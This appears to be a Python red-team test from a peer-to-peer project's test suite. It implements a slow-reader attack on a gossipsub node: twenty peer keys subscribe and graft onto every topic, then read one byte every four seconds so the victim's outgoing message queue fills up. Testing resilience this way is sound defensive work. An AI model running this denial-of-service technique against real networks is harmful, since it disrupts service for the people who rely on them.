"""Twenty keys that subscribe to everything and read one byte every four seconds (K-A).

What waited for them filled the room for outgoing messages, and the victims' own votes found none.
"""

from __future__ import annotations

from typing import Any

import trio
from libp2p.pubsub.pb import rpc_pb2

from p2p.gossip.connections.topics import topic_name
from tests.gossip.attacks import MESHSUB, rpc
from tests.redteam.target import TOPICS, Target, network_of, quietly

KEYS = 20
BYTE_S = 4.0


async def attack(target: Target) -> None:
    async with trio.open_nursery() as nursery:
        for number in range(KEYS):
            nursery.start_soon(_key, target, number)


async def _key(target: Target, number: int) -> None:
    topics = [topic_name(network_of(target.genesis), topic) for topic in TOPICS]

    async def trickle(stream: Any) -> None:
        while await quietly(stream.read, 1, timeout_s=60.0):
            await trio.sleep(BYTE_S)

    async with target.bare(f"slow reader {number}") as host:
        host.set_stream_handler(MESHSUB, trickle)
        while True:
            for peer in list(host.get_connected_peers()):
                stream = await quietly(host.new_stream, peer, [MESHSUB], timeout_s=3.0)
                if stream is not None:
                    subscriptions = [rpc_pb2.RPC.SubOpts(subscribe=True, topicid=topic) for topic in topics]
                    control = rpc_pb2.ControlMessage(graft=[rpc_pb2.ControlGraft(topicID=topic) for topic in topics])
                    await quietly(stream.write, rpc(subscriptions=subscriptions, control=control))
            await trio.sleep(8.0)
            await target.connect_bare(host)
